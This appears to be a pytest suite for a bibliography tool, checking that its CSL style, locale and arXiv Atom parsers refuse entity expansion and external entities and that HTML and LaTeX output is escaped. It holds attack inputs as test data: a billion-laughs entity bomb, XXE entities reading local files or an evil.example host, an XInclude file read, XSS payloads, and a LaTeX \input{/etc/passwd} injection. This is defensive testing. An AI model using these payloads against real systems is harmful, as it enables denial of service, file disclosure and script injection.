"""CSL styles/locales cannot expand entities, read files or reach the network; HTML output is escaped."""
from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from bibtools.csl import CslEngine, CslStyleError
from bibtools.csl.api import OUTPUT_NAMES, format_bibliography
from bibtools.csl.style import parse_xml
from bibtools.model import Date, Item, Name
from conftest import PROJECT

STYLE_BODY = """<style xmlns="http://purl.org/net/xbiblio/csl" class="in-text" version="1.0">
  <info><title>t</title><id>t</id><updated>2020-01-01T00:00:00+00:00</updated></info>
  <citation><layout><text variable="title"/></layout></citation>
  <bibliography><layout><text value="{value}"/><text variable="title"/></layout></bibliography>
</style>"""


def _style(doctype: str, value: str) -> bytes:
    return ('<?xml version="1.0" encoding="utf-8"?>\n' + doctype + "\n" + STYLE_BODY.replace("{value}", value)).encode()


LAUGHS = """<!DOCTYPE style [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""
ITEMS = [{"id": "a", "type": "book", "title": "T"}]


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test."""
    attempts: list[object] = []

    def refuse(self, address, *args, **kwargs):
        attempts.append(address)
        raise AssertionError(f"network access to {address!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    yield attempts
    assert attempts == []


def test_billion_laughs_is_refused_quickly(no_network) -> None:
    started = time.perf_counter()
    with pytest.raises(CslStyleError) as info:
        CslEngine(_style(LAUGHS, "&lol9;"), ITEMS)
    assert time.perf_counter() - started < 5
    assert "lollol" not in str(info.value)


def test_external_entity_file_is_not_read(tmp_path: Path, no_network) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    doctype = f'<!DOCTYPE style [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    with pytest.raises(CslStyleError) as info:
        CslEngine(_style(doctype, "&xxe;"), ITEMS)
    assert "TOP-SECRET-MARKER" not in str(info.value)


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE style SYSTEM "http://evil.example/csl.dtd">',
    '<!DOCTYPE style [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
    '<!DOCTYPE style [<!ENTITY xxe SYSTEM "http://evil.example/x">]>',
])
def test_network_entities_are_refused_without_connecting(doctype: str, no_network) -> None:
    with pytest.raises(CslStyleError):
        CslEngine(_style(doctype, "&xxe;" if "xxe" in doctype else "x"), ITEMS)


def test_locale_xml_goes_through_the_same_refusal(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    locale = (f'<?xml version="1.0"?><!DOCTYPE locale [<!ENTITY xxe SYSTEM "file://{secret}">]>'
              '<locale xmlns="http://purl.org/net/xbiblio/csl" version="1.0" xml:lang="en-US">'
              '<terms><term name="and">&xxe;</term></terms></locale>').encode()
    with pytest.raises(CslStyleError):
        parse_xml(locale, "locale en-US")
    with pytest.raises(CslStyleError):
        parse_xml(LAUGHS.replace("style", "locale").encode() + b"<locale>&lol9;</locale>", "locale en-US")


def test_external_dtd_and_entities_never_open_the_file(tmp_path: Path) -> None:
    """A FIFO blocks whoever opens it for reading: if the parser touched it, the child would hang."""
    fifo = tmp_path / "trap"
    os.mkfifo(fifo)
    cases = [
        f'<!DOCTYPE style SYSTEM "file://{fifo}">',
        f'<!DOCTYPE style [<!ENTITY xxe SYSTEM "file://{fifo}">]>',
        f'<!DOCTYPE style [<!ENTITY % p SYSTEM "file://{fifo}"> %p;]>',
    ]
    for n, doctype in enumerate(cases):
        style = tmp_path / f"s{n}.csl"
        style.write_bytes(_style(doctype, "&xxe;" if "xxe" in doctype else "x"))
        code = ("import sys\nfrom bibtools.csl import CslEngine, CslStyleError\n"
                f"try:\n    CslEngine({str(style)!r}, [])\nexcept CslStyleError:\n    sys.exit(0)\nsys.exit(3)\n")
        proc = subprocess.run([sys.executable, "-c", code], cwd=PROJECT, timeout=60, capture_output=True, text=True)
        assert proc.returncode == 0, (doctype, proc.stderr[-2000:])


def test_xinclude_is_not_processed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    style = STYLE_BODY.replace("{value}", "x").replace(
        '<text variable="title"/></layout></bibliography>',
        f'<text variable="title"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'
        "</layout></bibliography>")
    try:
        engine = CslEngine(style.encode(), ITEMS)
    except CslStyleError:
        return  # refusing the unknown element is fine too
    assert "TOP-SECRET-MARKER" not in "".join(html for _, html in engine.bibliography())


HOSTILE = Item("x", "webpage", {
    "title": "\\input{/etc/passwd} <script>alert(1)</script> & <i>kept</i> \"><img src=x onerror=alert(2)>",
    "author": [Name(family="<b onmouseover=alert(3)>Evil</b>", given="A")],
    "container-title": "J<script>",
    "issued": Date(parts=((2020,),)),
    "URL": "javascript:alert(4)",
})
HOSTILE_DOI = Item("y", "article-journal", {
    "title": "T", "author": [Name(family="D", given="E")], "issued": Date(parts=((2020,),)),
    "DOI": '10.1000/"><script>alert(5)</script>', "container-title": "J",
})


@pytest.mark.parametrize("style", ["apa", "ieee", "chicago-author-date", "vancouver"])
def test_html_output_escapes_markup_from_the_data(style: str) -> None:
    html = format_bibliography([HOSTILE, HOSTILE_DOI], style, output="html").render()
    assert "<script" not in html.lower() and "<img" not in html.lower() and "<b onmouseover" not in html
    assert "&lt;script&gt;" in html  # escaped, not dropped
    assert 'href="javascript:' not in html.lower()
    assert "onerror=alert(2)&gt;" in html or "onerror=alert(2)>" not in html


def test_engine_html_escapes_markup_from_the_data() -> None:
    engine = CslEngine(_style("", "x"), [{"id": "a", "type": "book", "title": "<script>alert(1)</script> <i>ok</i>"}],
                       output="html")
    html = "".join(entry for _, entry in engine.bibliography())
    assert "<script>" not in html and ("&lt;script&gt;" in html or "&#60;script&#62;" in html) and "<i>ok</i>" in html


def test_every_output_escapes_for_where_it_goes() -> None:
    for output in OUTPUT_NAMES:
        text = format_bibliography([HOSTILE], "apa", output=output).render()
        if output == "html":
            assert "<script>" not in text
        if output == "latex":
            assert "\\input" not in text.replace("\\textbackslash{}input", "")
            assert "<script>" not in text


def _atom(doctype: str, ref: str) -> str:
    return ('<?xml version="1.0"?>' + doctype + '<feed xmlns="http://www.w3.org/2005/Atom"><entry>'
            "<id>http://arxiv.org/abs/1234.5678v1</id><title>Title " + ref + "</title>"
            "<author><name>Ann Bee</name></author><published>2020-01-01T00:00:00Z</published></entry></feed>")


def test_arxiv_atom_reader_does_not_expand_entities(tmp_path: Path, no_network) -> None:
    from bibtools.api import load_string

    started = time.perf_counter()
    bomb = load_string(_atom(LAUGHS.replace("style", "feed"), "&lol9;"), "arxiv", source="bomb.xml")
    assert time.perf_counter() - started < 5
    assert all("lollol" not in (i.title or "") for i in bomb.items)
    assert bomb.items or any(d.severity.value == "error" and d.source == "bomb.xml" for d in bomb.diagnostics)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    for doctype in (f'<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file://{secret}">]>',
                    '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "http://evil.example/x">]>'):
        library = load_string(_atom(doctype, "&xxe;"), "arxiv", source="xxe.xml")
        assert "TOP-SECRET-MARKER" not in json.dumps([i.fields.get("title") for i in library.items])


def test_arxiv_atom_reader_never_opens_external_files(tmp_path: Path) -> None:
    fifo = tmp_path / "trap"
    os.mkfifo(fifo)
    for n, doctype in enumerate([f'<!DOCTYPE feed SYSTEM "file://{fifo}">',
                                 f'<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file://{fifo}">]>']):
        feed = tmp_path / f"f{n}.xml"
        feed.write_text(_atom(doctype, "&xxe;" if "xxe" in doctype else ""))
        code = f"from bibtools.api import load_file\nload_file({str(feed)!r}, 'arxiv')\n"
        proc = subprocess.run([sys.executable, "-c", code], cwd=PROJECT, timeout=60, capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr[-2000:]
